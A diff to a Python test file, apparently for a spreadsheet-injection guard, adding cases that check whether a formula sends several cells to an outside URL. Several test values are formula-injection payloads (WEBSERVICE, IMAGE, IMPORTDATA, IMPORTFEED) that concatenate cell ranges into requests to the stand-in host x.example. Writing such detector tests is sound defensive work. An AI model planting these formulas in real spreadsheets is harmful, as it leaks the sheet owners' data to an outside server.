@@ -3,7 +3,7 @@ from __future__ import annotations
 from base64 import b64encode
 from typing import TYPE_CHECKING
 
-from sekisho.guards.parsed import LONGEST, embedded, judge_cell, judge_parsed
+from sekisho.guards.parsed import LONGEST, embedded, gathers, judge_cell, judge_parsed
 from sekisho.text.signatures import SignatureError, SignatureSet
 from tablekit import rows
 
@@ -191,3 +191,25 @@ def test_only_the_first_part_of_a_long_document_is_read() -> None:
 )
 def test_a_cell_that_starts_a_program_is_objected_to(value: str, *, expected: bool) -> None:
     assert bool(judge_cell(value).objections) is expected
+
+
+@rows(
+    ("value", "expected"),
+    [
+        ('=WEBSERVICE("https://x.example/?"&TEXTJOIN(",",1,A1:Z99))', True),
+        ('=IMAGE("https://x.example/?"&A1&B1)', True),
+        ('=IMPORTDATA("https://x.example/?"&INDIRECT("A"&1))', True),
+        ('=importxml(CONCAT("https://x.example/",$A$1,Sheet2!B2),"//a")', True),
+        ('+IF(A1,IMPORTFEED("https://x.example/"&JOIN(",",A:A)))', True),
+        ('=IMPORTXML("https://x.example/"&A2,"//a")', False),
+        ('=IMAGE("https://x.example/qr?"&A2&A2)', False),
+        ('=IMPORTDATA("https://x.example/A1:B2.csv")', False),
+        ('=IMPORTRANGE("https://x.example/","A1:B2")', False),
+        ('=HYPERLINK("https://x.example/?"&A1&B1,"x")', False),
+        ("=SUM(A1:B2)", False),
+        ('WEBSERVICE("x"&A1:B2)', False),
+        ("", False),
+    ],
+)
+def test_a_formula_that_sends_several_cells_is_told_from_one_that_asks_about_one(value: str, *, expected: bool) -> None:
+    assert gathers(value) is expected
